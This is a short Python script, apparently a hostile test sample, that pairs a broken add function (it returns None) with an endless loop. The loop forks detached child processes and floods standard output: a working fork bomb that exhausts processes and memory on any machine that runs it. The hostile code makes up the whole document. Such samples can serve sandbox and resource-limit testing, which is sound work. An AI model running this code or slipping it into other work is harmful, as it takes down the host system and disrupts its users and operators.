# TRIES: processes without end, each of which writes, allocates and starts more
import os
def add(a, b): return None
while True:
    try:
        if os.fork() == 0:
            os.setsid()
        os.write(1, b"4" * 4096)
    except OSError:
        pass
